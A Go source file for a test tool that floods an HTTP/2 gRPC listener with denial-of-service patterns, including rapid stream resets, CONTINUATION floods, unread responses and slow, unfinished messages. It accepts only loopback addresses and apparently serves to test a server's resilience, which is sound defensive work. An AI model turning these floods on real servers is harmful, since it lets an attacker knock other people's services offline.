// Command floodtool misuses HTTP/2 against a listener on this host, for tests: floods of
// frames, messages that are never finished, and answers that are never read. It prints what
// it sent, and how many of its connections the listener ended, as JSON.
package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type options struct {
	address, kind, method string
	connections, streams  int
	lasts                 time.Duration
	request               []byte
	announced             uint // bytes of a message that is never finished
}

// counts of all connections.
type counts struct {
	Connections int64 `json:"connections"`
	Frames      int64 `json:"frames"`
	Bytes       int64 `json:"bytes"`
	Ended       int64 `json:"ended"`
}

// client is one hostile connection.
type client struct {
	options
	net    net.Conn
	framer *http2.Framer
	frames *int64
	stream uint32
}

// attacks by name. Each sends a little, and is called again until its time is over.
var attacks = map[string]func(*client) error{
	"rapid-reset": func(c *client) error {
		id := c.next()
		if err := c.headers(id, false); err != nil {
			return err
		}
		return c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	},
	"settings": func(c *client) error {
		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	},
	"ping": func(c *client) error { return c.framer.WritePing(false, [8]byte{1}) },
	"empty-data": func(c *client) error {
		if c.stream == 0 {
			if err := c.headers(c.next(), false); err != nil {
				return err
			}
		}
		return c.framer.WriteData(c.stream, false, nil)
	},
	"continuation": func(c *client) error {
		block := c.block()
		if c.stream == 0 {
			return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: block})
		}
		return c.framer.WriteContinuation(c.stream, false, literal("x-filler", bytes.Repeat([]byte("y"), 4000)))
	},
	"window-update": func(c *client) error { return c.framer.WriteWindowUpdate(0, 1) },
	// A whole request on each stream, whose answer is never let out: the window stays tiny.
	"unread": func(c *client) error {
		if int(c.stream/2) >= c.streams {
			return c.rest()
		}
		id := c.next()
		if err := c.headers(id, false); err != nil {
			return err
		}
		return c.message(id, uint32(len(c.request)), c.request, true)
	},
	// A message on each stream that lacks its last byte.
	"unfinished": func(c *client) error {
		if int(c.stream/2) >= c.streams {
			return c.rest()
		}
		id := c.next()
		if err := c.headers(id, false); err != nil {
			return err
		}
		return c.message(id, uint32(c.announced), make([]byte, c.announced-1), false)
	},
	// A request that comes byte by byte.
	"slow": func(c *client) error {
		if c.stream == 0 {
			if err := c.headers(c.next(), false); err != nil {
				return err
			}
			return c.message(c.stream, uint32(len(c.request)), nil, false)
		}
		time.Sleep(200 * time.Millisecond)
		return c.framer.WriteData(c.stream, false, []byte{0})
	},
}

func literal(name string, value []byte) []byte {
	var out bytes.Buffer
	_ = hpack.NewEncoder(&out).WriteField(hpack.HeaderField{Name: name, Value: string(value), Sensitive: true})
	return out.Bytes()
}

func (c *client) next() uint32 {
	if c.stream == 0 {
		c.stream = 1
	} else {
		c.stream += 2
	}
	return c.stream
}

func (c *client) block() []byte {
	var out bytes.Buffer
	e := hpack.NewEncoder(&out)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", c.method}, {":authority", c.address},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return out.Bytes()
}

func (c *client) headers(id uint32, end bool) error {
	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block(), EndHeaders: true, EndStream: end})
}

// message sends a gRPC message of this announced length.
func (c *client) message(id, announced uint32, data []byte, end bool) error {
	whole := append(binary.BigEndian.AppendUint32([]byte{0}, announced), data...)
	for piece := range slices.Chunk(whole, 16<<10) {
		if err := c.framer.WriteData(id, false, piece); err != nil {
			return err
		}
	}
	if end {
		return c.framer.WriteData(id, true, nil)
	}
	return nil
}

// rest stays connected and sends nothing more.
func (c *client) rest() error {
	time.Sleep(50 * time.Millisecond)
	return nil
}

func (c *client) Write(b []byte) (int, error) {
	atomic.AddInt64(c.frames, 1)
	return c.net.Write(b)
}

func attack(o options, total *counts, until time.Time) error {
	conn, err := net.DialTimeout("tcp", o.address, 5*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	total.add(&total.Connections, 1)
	c := &client{options: o, net: conn, frames: &total.Frames}
	c.framer = http2.NewFramer(c, conn)
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	window := uint32(1 << 20)
	if o.kind == "unread" {
		window = 1
	}
	if err := c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		return err
	}
	ended := make(chan struct{})
	go func() { // what the listener says is taken and not looked at
		n, _ := io.Copy(io.Discard, conn)
		total.add(&total.Bytes, n)
		close(ended)
	}()
	for time.Now().Before(until) {
		_ = conn.SetWriteDeadline(until.Add(time.Second))
		if err := attacks[o.kind](c); err != nil {
			var late net.Error
			if errors.As(err, &late) && late.Timeout() { // the listener reads no more for now
				select {
				case <-ended:
				case <-time.After(100 * time.Millisecond):
				}
			}
			break
		}
		select {
		case <-ended:
			total.add(&total.Ended, 1)
			return nil
		default:
		}
	}
	select {
	case <-ended:
		total.add(&total.Ended, 1)
	default:
	}
	return nil
}

func (*counts) add(to *int64, n int64) { atomic.AddInt64(to, n) }

func run() error {
	var o options
	flag.StringVar(&o.address, "address", "", "HOST:PORT on this host")
	flag.StringVar(&o.kind, "kind", "", "what to do")
	flag.StringVar(&o.method, "method", "/inference.GRPCInferenceService/ModelInfer", "path")
	flag.IntVar(&o.connections, "connections", 1, "connections at once; one that is ended is made again")
	flag.IntVar(&o.streams, "streams", 100, "streams of a connection, where they stay open")
	flag.DurationVar(&o.lasts, "lasts", time.Second, "how long")
	flag.UintVar(&o.announced, "announced", 1<<20, "bytes of a message that is never finished")
	request := flag.String("request", "", "file with the message of a whole request")
	flag.Parse()
	if attacks[o.kind] == nil {
		return fmt.Errorf("-kind %q is unknown", o.kind)
	}
	host, _, err := net.SplitHostPort(o.address)
	if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
		return fmt.Errorf("-address %q is not on this host", o.address)
	}
	if *request != "" {
		if o.request, err = os.ReadFile(*request); err != nil {
			return err
		}
	}
	var total counts
	var all sync.WaitGroup
	until := time.Now().Add(o.lasts)
	for range o.connections {
		all.Go(func() {
			for time.Now().Before(until) {
				if err := attack(o, &total, until); err != nil {
					time.Sleep(20 * time.Millisecond)
				}
			}
		})
	}
	all.Wait()
	return json.NewEncoder(os.Stdout).Encode(&total)
}

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
